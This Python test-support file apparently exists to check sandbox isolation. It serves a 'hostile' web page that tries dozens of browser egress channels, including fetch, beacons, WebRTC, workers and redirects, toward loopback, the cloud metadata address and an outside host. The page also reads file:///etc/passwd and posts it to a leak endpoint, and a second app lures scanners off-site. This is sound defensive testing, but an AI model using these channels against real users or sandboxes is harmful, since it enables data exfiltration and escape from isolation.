"""A page that tries every way out of a browser, and a host that counts what arrives."""

import asyncio
import json
import socket
from collections import Counter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import psutil
from aiohttp import web

from tests.support.dynamic_apps import serving

# Each is tried at each destination; WAY is part of the URL, so that an arrival names it.
SIMPLE_WAYS = """
  fetch: u => fetch(u, {mode: 'no-cors'}),
  post: u => fetch(u, {method: 'POST', mode: 'no-cors', body: 'x'}),
  keepalive: u => fetch(u, {mode: 'no-cors', keepalive: true}),
  cors: u => fetch(u, {method: 'DELETE', headers: {'x-a': '1'}}),
  xhr: u => { const x = new XMLHttpRequest(); x.open('GET', u); x.send() },
  beacon: u => navigator.sendBeacon(u, 'x'),
  image: u => { new Image().src = u },
  script: u => add('script', {src: u}),
  style: u => add('link', {rel: 'stylesheet', href: u}),
  prefetch: u => add('link', {rel: 'prefetch', href: u}),
  preload: u => add('link', {rel: 'preload', as: 'fetch', href: u}),
  preconnect: u => add('link', {rel: 'preconnect', href: u}),
  dnsprefetch: u => add('link', {rel: 'dns-prefetch', href: u}),
  icon: u => add('link', {rel: 'icon', href: u}),
  iframe: u => add('iframe', {src: u}),
  srcdoc: u => add('iframe', {srcdoc: `<img src="${u}">`}),
  refresh: u => add('iframe', {srcdoc: `<meta http-equiv=refresh content="0;url=${u}">`}),
  object: u => add('object', {data: u}),
  embed: u => add('embed', {src: u}),
  video: u => add('video', {src: u, preload: 'auto'}),
  font: u => new FontFace('f' + Math.random(), `url(${u})`).load(),
  background: u => { add('div', {}).style.backgroundImage = `url(${u})` },
  eventsource: u => { new EventSource(u) },
  websocket: u => { new WebSocket(u.replace('http', 'ws')) },
  form: u => form(u, 'GET'),
  formpost: u => form(u, 'POST'),
  popup: u => { window.open(u) },
  ping: u => { const a = add('a', {href: '#here', ping: u}); a.click() },
  redirect: u => { new Image().src = '/go?to=' + encodeURIComponent(u) },
  frameredirect: u => add('iframe', {src: '/go?to=' + encodeURIComponent(u)}),
  fetchredirect: u => fetch('/go?to=' + encodeURIComponent(u)),
  worker: u => { new Worker(URL.createObjectURL(new Blob([`fetch('${u}', {mode: 'no-cors'})`]))) },
  importscripts: u => { new Worker(URL.createObjectURL(new Blob([`importScripts('${u}')`]))) },
  sharedworker: u => { new SharedWorker(
    URL.createObjectURL(new Blob([`fetch('${u}', {mode: 'no-cors'})`]))) },
  serviceworker: u => navigator.serviceWorker.register('/sw.js?to=' + encodeURIComponent(u),
    {scope: '/sw-' + u.replace(/[^a-z0-9]+/g, '-')}),
  prerender: u => { add('script', {type: 'speculationrules',
    textContent: JSON.stringify({prefetch: [{source: 'list', urls: [u]}]})}) },
"""
UDP_WAYS = """
  stun: at => peer([{urls: 'stun:' + at}]),
  turn: at => peer([{urls: 'turn:' + at + '?transport=udp', username: 'a', credential: 'b'}]),
  turntcp: at => peer([{urls: 'turn:' + at + '?transport=tcp', username: 'a', credential: 'b'}]),
  candidate: async at => {
    const [host, port] = at.split(':'), one = peer([]), two = new RTCPeerConnection();
    await two.setRemoteDescription(await (await one).offered);
    await two.setLocalDescription();
    await (await one).setRemoteDescription(two.localDescription);
    await (await one).addIceCandidate({sdpMid: '0',
      candidate: `candidate:1 1 udp 2122260223 ${host} ${port} typ host`});
  },
  webtransport: at => { new WebTransport('https://' + at + '/webtransport').ready.catch(() => 0) },
"""
FILE_WAYS = """
  filefetch: u => fetch(u).then(r => r.text()).then(leak),
  fileimage: u => { const i = new Image(); i.onload = () => leak('image'); i.src = u },
  fileframe: u => { const f = add('iframe', {src: u}); setTimeout(() => {
    try { if (f.contentDocument && f.contentDocument.body.textContent.length > 0)
      leak(f.contentDocument.body.textContent) } catch (e) {} }, 1500) },
  fileopen: u => { window.open(u) },
"""
PAGE = """<!doctype html><html lang=en><title>hostile</title><main><h1>hostile</h1></main><script>
const DESTINATIONS = %(destinations)s, UDP = %(udp)s, tried = [];
const leak = text => fetch('/leak', {method: 'POST', body: String(text).slice(0, 99)});
function add(tag, values) {
  const one = document.createElement(tag);
  for (const [name, value] of Object.entries(values))
    name === 'textContent' ? one.textContent = value : one.setAttribute(name, value);
  return document.body.appendChild(one);
}
function form(u, method) {
  const frame = add('iframe', {name: 'f' + Math.random()});
  const one = add('form', {action: u, method, target: frame.name});
  one.innerHTML = '<input name=a value=b>';
  one.submit();
}
async function peer(iceServers) {
  const one = new RTCPeerConnection({iceServers});
  one.createDataChannel('x');
  await one.setLocalDescription();
  one.offered = one.localDescription;
  return one;
}
async function attempt(name, way, at) {
  try { const made = way(at); tried.push(name); if (made && made.catch) made.catch(() => 0) }
  catch (error) { tried.push(name + ' threw') }
}
const simple = {%(simple)s}, udp = {%(udp_ways)s}, files = {%(files)s};
for (const [place, origin] of Object.entries(DESTINATIONS))
  for (const [name, way] of Object.entries(simple))
    attempt(name + ' ' + place, way, origin + '/' + name + '-' + place);
for (const [place, at] of Object.entries(UDP))
  for (const [name, way] of Object.entries(udp)) attempt(name + ' ' + place, way, at);
for (const [name, way] of Object.entries(files)) attempt(name + ' file', way, 'file:///etc/passwd');
const socket = new WebSocket('ws://' + location.host + '/ws');
socket.onmessage = () => fetch('/own');
fetch('/tried', {method: 'POST', body: JSON.stringify(tried)});
</script>"""


@dataclass(slots=True)
class Host:
    """What arrived at this machine: `way-destination` of a request, or the kind of anything else.

    Attributes:
        tried: what the page says it tried.
        leaked: which part of a file came back to it.
        own: hits of the app's own origin, WebSocket included.
    """

    port: int = 0
    udp_port: int = 0
    bridge: str = "127.0.0.1"
    arrived: Counter[str] = field(default_factory=Counter[str])
    tried: set[str] = field(default_factory=set[str])
    leaked: list[str] = field(default_factory=list[str])
    own: Counter[str] = field(default_factory=Counter[str])

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            async with asyncio.timeout(5):
                line = await reader.readline()
        except (TimeoutError, ConnectionError):
            line = b""
        words = line.decode("latin-1").split()
        self.arrived[words[1].strip("/").split("?")[0] if len(words) > 2 else "connection"] += 1
        writer.write(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        writer.close()

    def page(self) -> str:
        destinations = {
            "loopback": f"http://127.0.0.1:{self.port}",
            "localhost": f"http://localhost:{self.port}",
            "subdomain": f"http://a.localhost:{self.port}",
            "bridge": f"http://{self.bridge}:{self.port}",
            "linklocal": "http://169.254.169.254",
            "outside": "http://outside.example",
        }
        udp = {
            "loopback": f"127.0.0.1:{self.udp_port}",
            "bridge": f"{self.bridge}:{self.udp_port}",
        }
        parts = {"simple": SIMPLE_WAYS, "udp_ways": UDP_WAYS, "files": FILE_WAYS}
        return PAGE % {"destinations": json.dumps(destinations), "udp": json.dumps(udp), **parts}

    def application(self) -> web.Application:
        app = web.Application()

        async def page(_: web.Request) -> web.Response:
            headers = {"Content-Security-Policy-Report-Only": self._policy()}
            return web.Response(text=self.page(), content_type="text/html", headers=headers)

        async def go(request: web.Request) -> web.Response:
            raise web.HTTPFound(request.query["to"])

        async def worker(request: web.Request) -> web.Response:
            to = json.dumps(request.query["to"])
            text = f"self.addEventListener('install', () => fetch({to}, {{mode: 'no-cors'}}))"
            headers = {"Service-Worker-Allowed": "/"}
            return web.Response(text=text, content_type="text/javascript", headers=headers)

        async def tried(request: web.Request) -> web.Response:
            self.tried |= set(await request.json())
            return web.Response()

        async def leak(request: web.Request) -> web.Response:
            self.leaked.append(await request.text())
            return web.Response()

        async def own(_: web.Request) -> web.Response:
            self.own["/own"] += 1
            return web.Response()

        async def echo(request: web.Request) -> web.WebSocketResponse:
            channel = web.WebSocketResponse()
            await channel.prepare(request)
            await channel.send_str("hello")
            await channel.close()
            return channel

        app.router.add_get("/", page)
        app.router.add_get("/go", go)
        app.router.add_get("/sw.js", worker)
        app.router.add_post("/tried", tried)
        app.router.add_post("/leak", leak)
        app.router.add_get("/own", own)
        app.router.add_get("/ws", echo)
        return app

    def leading_away(self) -> web.Application:
        """An app whose redirects, links and references lead scanners to the host."""
        app, there = web.Application(), f"http://127.0.0.1:{self.port}"
        document = {
            "openapi": "3.0.0",
            "info": {"title": "away", "version": "1"},
            "servers": [{"url": there}],
            "paths": {
                "/item": {"get": {"responses": {"200": {"$ref": f"{there}/reference"}}}},
                "/away": {"get": {"responses": {"200": {"description": "ok"}}}},
            },
        }

        async def page(request: web.Request) -> web.Response:
            self.own[request.path] += 1
            text = (
                "<!doctype html><title>away</title><a href=/away>a</a><a href='/item?q=1'>b</a>"
                "<form method=post action=/form><input name=a><input type=file name=f></form>"
                f"<a href={there}/link>c</a><script src={there}/script></script>"
            )
            return web.Response(text=text, content_type="text/html")

        async def away(request: web.Request) -> web.Response:
            self.own[request.path] += 1
            raise web.HTTPFound(f"{there}/redirected")

        async def item(request: web.Request) -> web.Response:
            self.own[request.path] += 1
            return web.json_response([])

        async def described(_: web.Request) -> web.Response:
            return web.json_response(document)

        app.router.add_get("/", page)
        app.router.add_route("*", "/away", away)
        app.router.add_route("*", "/form", away)
        app.router.add_get("/item", item)
        app.router.add_get("/openapi.json", described)
        return app

    def _policy(self) -> str:
        return f"img-src 'none'; report-uri http://127.0.0.1:{self.port}/report-loopback"


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, host: Host) -> None:
        self.host = host

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        self.host.arrived["datagram"] += 1


@asynccontextmanager
async def hostile_host(*, for_scanners: bool = False) -> AsyncIterator[tuple[Host, str]]:
    """Listeners on every address of this machine, and the hostile app's base URL."""
    host, loop = Host(), asyncio.get_running_loop()
    # Docker's bridge first, where there is one.
    interfaces = sorted(psutil.net_if_addrs().items(), key=lambda item: item[0] != "docker0")
    addresses = [
        row.address
        for _, rows in interfaces
        for row in rows
        if row.family == socket.AF_INET and not row.address.startswith("127.")
    ]
    host.bridge = next(iter(addresses), "127.0.0.1")
    server = await asyncio.start_server(host.connected, "0.0.0.0", 0)
    host.port = server.sockets[0].getsockname()[1]
    transport, _ = await loop.create_datagram_endpoint(
        lambda: _Datagrams(host), local_addr=("0.0.0.0", 0)
    )
    host.udp_port = transport.get_extra_info("sockname")[1]
    try:
        app = host.leading_away() if for_scanners else host.application()
        async with serving(app) as url:
            yield host, url
    finally:
        transport.close()
        server.close()
